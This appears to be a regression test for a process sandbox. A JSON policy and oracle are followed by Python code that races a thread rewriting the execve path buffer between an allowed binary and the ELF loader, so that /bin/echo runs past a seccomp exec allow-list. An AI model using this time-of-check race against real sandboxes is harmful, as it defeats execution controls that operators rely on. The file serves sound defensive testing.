"""exec_allow names /usr/bin/true; one thread rewrites the path buffer
between /usr/bin/true and the ELF interpreter while execve() runs, with
argv asking the interpreter to run /bin/echo. The supervisor checks the
path it reads and lets the call continue; the kernel reads it again, and
Landlock must give the interpreter EXECUTE for any dynamic program.

{
  "policy": {"version": 1, "native": {"ctypes": true}, "process": {"spawn": true, "exec_allow": ["/usr/bin/true"]},
             "filesystem": {"write": ["./out"]}},
  "setup": {"dirs": ["CWD/out"]},
  "oracle": {"stdout_lacks": "ESCAPED"},
  "known_gap": "execve cannot be performed by the supervisor and Landlock cannot tell the ELF interpreter run as a program from the interpreter of an allowed one (docs/threat-model.md, exec_allow)",
  "expect": {"status": "ok",
             "events": [{"layer": "seccomp", "syscall": "execve", "rule": "process.exec_allow"}]}
}
"""
import ctypes
import os
import sys
import threading
import time

libc = ctypes.CDLL(None, use_errno=True)
good = b"/usr/bin/true"
bad = b"/lib64/ld-linux-x86-64.so.2"
n = max(len(good), len(bad)) + 1
buf = ctypes.create_string_buffer(good.ljust(n, b"\0"), n)
addr = ctypes.addressof(buf)
argv = (ctypes.c_char_p * 4)(b"ld.so", b"/bin/echo", b"ESCAPED: /bin/echo ran", None)
stop = False


def flipper():
    while not stop:
        ctypes.memmove(addr, bad.ljust(n, b"\0"), n)
        ctypes.memmove(addr, good.ljust(n, b"\0"), n)


threading.Thread(target=flipper, daemon=True).start()
sys.stdout.flush()
deadline = time.monotonic() + 1.5
while time.monotonic() < deadline:
    pid = os.fork()
    if pid == 0:
        libc.execve(buf, argv, None)
        os._exit(0)
    os.waitpid(pid, 0)
stop = True
